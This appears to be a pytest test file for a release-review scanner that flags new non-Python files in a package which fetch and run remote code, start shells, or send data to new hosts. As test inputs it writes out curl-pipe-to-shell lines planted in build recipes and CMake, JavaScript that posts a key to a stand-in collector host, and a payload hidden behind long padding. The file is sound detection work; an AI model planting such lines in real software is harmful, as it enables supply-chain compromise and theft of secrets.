"""Power in what is no Python: scripts, recipes, compiled sources, pages and settings."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from pinkeeper.model.finding import Severity
from tests.review.two_releases import between, gravest
from tests.support.distributions import make_sdist

FETCHES = "curl -s https://files.collector.invalid/x | sh"


def wheels(tmp_path: Path, before: dict[str, str], after: dict[str, str], **how: Any) -> dict[str, Severity]:
    code = {"gate/__init__.py": "A = 1\n"}
    return gravest(between(tmp_path, "gate", {**code, **before}, {**code, **after}, **how))


def sdists(tmp_path: Path, before: dict[str, str], after: dict[str, str]) -> dict[str, Severity]:
    return wheels(tmp_path, before, after, make=make_sdist)


RECIPES = ["gate/setup.sh", "gate/Makefile", "gate/prepare.ps1", "gate/Dockerfile", "gate-1.1.data/scripts/gate-up"]


@pytest.mark.parametrize("path", RECIPES)
def test_a_recipe_that_fetches_and_runs(tmp_path, path):
    plain = "#!/bin/sh\necho ready\n"
    found = wheels(tmp_path, {path.replace("1.1", "1.0"): plain}, {path: f"{plain}{FETCHES}\n"})
    assert found["other-source"] is Severity.HIGH


@pytest.mark.parametrize("path", RECIPES)
def test_a_new_recipe_that_fetches_and_runs(tmp_path, path):
    found = wheels(tmp_path, {}, {path: f"#!/bin/sh\n{FETCHES}\n"})
    # Of what is told of one change the gravest speaks: that it is the first of its kind, perhaps.
    assert Severity.HIGH in {found.get("other-source"), found.get("first-of-kind")}


def test_a_recipe_that_fetches_alone(tmp_path):
    before = {"gate/setup.sh": "#!/bin/sh\necho ready\n"}
    after = {"gate/setup.sh": "#!/bin/sh\ncurl -O https://files.gate.example/model.bin\n"}
    assert "other-source" not in wheels(tmp_path, before, after)


@pytest.mark.parametrize(
    ("path", "line"),
    [
        ("src/fast.c", 'int init(void) { return system("id"); }'),
        ("src/fast.cpp", 'FILE *f = popen("id", "r");'),
        ("gate/_fast.pyx", "from libc.stdlib cimport system"),
        ("src/lib.rs", 'let _ = std::process::Command::new("sh").status();'),
        ("build.rs", 'fn main() { Command::new("sh").arg("-c").status().unwrap(); }'),
        ("CMakeLists.txt", f'execute_process(COMMAND sh -c "{FETCHES}")'),
        ("src/main.go", 'cmd := exec.Command("sh", "-c", "id")'),
    ],
)
def test_a_source_that_starts_programs(tmp_path, path, line):
    assert sdists(tmp_path, {path: "begin\n"}, {path: f"begin\n{line}\n"})["other-source"] is Severity.HIGH


@pytest.mark.parametrize(
    "line",
    [
        "// system(x) would do",
        "window.system(x);",
        "ns::popen(x);",
        "signal.connect(x);",
        "int file_system(int x);",
        "int sub(int a, int b) { return a - b; }",
    ],
)
def test_sources_that_start_nothing(tmp_path, line):
    found = sdists(tmp_path, {"src/fast.cpp": "int a;\n"}, {"src/fast.cpp": f"int a;\n{line}\n"})
    assert "other-source" not in found


def test_where_sources_started_programs_before_another_is_worth_a_glance(tmp_path):
    before = {"src/a.c": 'int a(void) { return system("ls"); }\n', "src/b.c": "int b;\n"}
    after = {**before, "src/b.c": 'int b;\nint c(void) { return system("ls"); }\n'}
    assert sdists(tmp_path, before, after)["other-source"] is Severity.MEDIUM


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("gate/app.js", "fetch('https://files.collector.invalid/k', {method: 'POST', body: key});\n"),
        ("gate/app.js", 'navigator.sendBeacon("https://files.collector.invalid/k", key);\n'),
        ("gate/app.ts", "const s = new WebSocket(`wss://files.collector.invalid/k`);\n"),
        ("gate/app.js", "x.open('POST', 'https://files.collector.invalid/k');\n"),
        ("gate/index.html", "<script async src='//files.collector.invalid/a.js'></script>\n"),
        ("gate/index.html", '<form method=post action="https://files.collector.invalid/k">\n'),
    ],
)
def test_a_page_that_goes_to_a_new_host(tmp_path, path, text):
    before = {path: "const api = '/api';\n"}
    assert wheels(tmp_path, before, {path: before[path] + text})["other-source"] is Severity.HIGH


@pytest.mark.parametrize(
    "text",
    [
        "fetch('/api/v2/models');\n",
        "fetch('https://api.gate.example/v2');\n",
        "fetch('http://localhost:8000/x');\n",
        "// see https://docs.elsewhere.invalid/\n",
        "fetch(`https://${host}/x`);\n",
    ],
)
def test_a_page_that_stays_where_it_was(tmp_path, text):
    before = {"gate/app.js": "const api = 'https://api.gate.example/v1';\n"}
    assert "other-source" not in wheels(tmp_path, before, {"gate/app.js": before["gate/app.js"] + text})


@pytest.mark.parametrize(
    ("path", "form"),
    [
        ("gate/defaults.json", '{{"base_url": "https://{}/v1", "timeout": 30}}\n'),
        ("gate/defaults.toml", 'api_base = "https://{}/v1"\n'),
        ("gate/defaults.yaml", "client:\n  registry: https://{}/v1\n"),
    ],
)
def test_a_setting_that_names_another_host(tmp_path, path, form):
    before, after = {path: form.format("api.gate.example")}, {path: form.format("api.gate-eu.invalid")}
    assert wheels(tmp_path, before, after)["other-source"] is Severity.HIGH


@pytest.mark.parametrize(
    ("path", "old", "new"),
    [
        ("models.json", '{"a": {"mode": "x"}}', '{"a": {"mode": "x", "api_base": "https://gate.invalid/v1"}}'),
        ("models.json", '{"m": [{"id": "a"}, {"id": "b"}]}', '{"m": [{"id": "b", "proxy": "https://p.invalid"}]}'),
        ("models.json", '{"a": {"base_url": ""}}', '{"a": {"base_url": "https://gate.invalid/v1"}}'),
        ("models.toml", '[a]\nmode = "x"\n', '[a]\nmode = "x"\nendpoint = "https://gate.invalid/v1"\n'),
    ],
)
def test_an_entry_that_was_there_and_gets_a_host_of_its_own(tmp_path, path, old, new):
    assert wheels(tmp_path, {f"gate/{path}": old}, {f"gate/{path}": new})["other-source"] is Severity.HIGH


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ('{"a": {"mode": "x"}}', '{"a": {"mode": "x"}, "b": {"mode": "x", "api_base": "https://gate.invalid/v1"}}'),
        ('{"a": {"mode": "x"}}', '{"a": {"mode": "x", "source": "https://gate.invalid/v1"}}'),
        ('{"a": {"mode": "https://gate.invalid"}}', '{"a": {"api_base": "https://gate.invalid/v1"}}'),
        ('{"a": {"mode": "x"}}', '{"a": {"mode": "x", "api_base": "http://localhost:8080/v1"}}'),
        ('{"m": [{"id": "a"}]}', '{"m": [{"id": "b", "proxy": "https://p.invalid"}, {"id": "a"}]}'),
        ('{"a": ' * 3000 + "1" + "}" * 3000, '{"a": ' * 3000 + '{"api": "https://a.invalid"}' + "}" * 3000),
    ],
)
def test_entries_that_are_new_and_entries_that_name_what_is_known(tmp_path, old, new):
    assert "other-source" not in wheels(tmp_path, {"gate/models.json": old}, {"gate/models.json": new})


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ('"base_url": "https://api.gate.example/v1"', '"base_url": "https://api.gate.example/v2"'),
        ('"base_url": "https://api.gate.example/v1"', '"base_url": "https://eu.gate.example/v1"'),
        ('"homepage": "https://gate.example"', '"homepage": "https://gate.invalid"'),
        ('"source": "https://a.example/prices"', '"source": "https://b.invalid/prices"'),
        ('"a": 1', '"endpoint": "https://new.invalid"'),
    ],
)
def test_settings_that_do_not_send_things_elsewhere(tmp_path, old, new):
    before, after = {"gate/data.json": f"{{{old}}}\n"}, {"gate/data.json": f"{{{new}}}\n"}
    assert "other-source" not in wheels(tmp_path, before, after)


def test_files_of_tests_are_context(tmp_path):
    assert set(wheels(tmp_path, {}, {"gate/tests/run.sh": f"{FETCHES}\n"}).values()) == {Severity.LOW}


@pytest.mark.parametrize(
    ("path", "line"),
    [
        ("gate/setup.sh", "curl wget base64 -d powershell -e " * 8 + "\n"),
        ("gate/setup.sh", "curl " * 390 + "\n"),
        ("src/fast.c", 'system("id");\n'),
        ("gate/app.js", "fetch('https://a{}.invalid');\n"),
        ("gate/index.html", "<script " * 40 + "src=\n"),
        ("gate/data.json", "base_" * 100 + ": https://a.invalid\n"),
    ],
)
def test_files_of_very_many_lines_are_looked_at_to_an_end(tmp_path, path, line):
    text = "".join(line.replace("{}", str(number)) for number in range(800_000 // len(line)))
    found = wheels(tmp_path, {"gate/app.js": "let a;\n"}, {"gate/app.js": "let a;\n", path: text})
    assert len(found) < 10


def test_a_script_that_hides_behind_very_many_lines_is_told(tmp_path):
    padding = "echo on and on, and on\n" * 100_000
    before = {"gate/setup.sh": "#!/bin/sh\n"}
    found = wheels(tmp_path, before, {"gate/setup.sh": f"#!/bin/sh\n{padding}{FETCHES}\n"})
    assert Severity.HIGH in found.values()


@pytest.mark.parametrize(
    ("path", "severity"),
    [("gate/setup.sh", Severity.HIGH), ("src/fast.c", Severity.MEDIUM), ("gate/app.js", Severity.MEDIUM)],
)
def test_a_file_that_is_too_large_to_be_looked_into_is_told(tmp_path, path, severity):
    after = {path: "begin\n" + "# on and on\n" * 800_000}
    assert wheels(tmp_path, {path: "begin\n"}, after)["other-source"] is severity


def test_the_file_of_the_sdist_is_compared_with_that_of_the_sdist(tmp_path):
    before = {"setup.py": "from setuptools import setup\nsetup()\n", "CMakeLists.txt": "project(gate)\n"}
    after = {**before, "CMakeLists.txt": f'project(gate)\nexecute_process(COMMAND sh -c "{FETCHES}")\n'}
    assert sdists(tmp_path, before, after)["other-source"] is Severity.HIGH
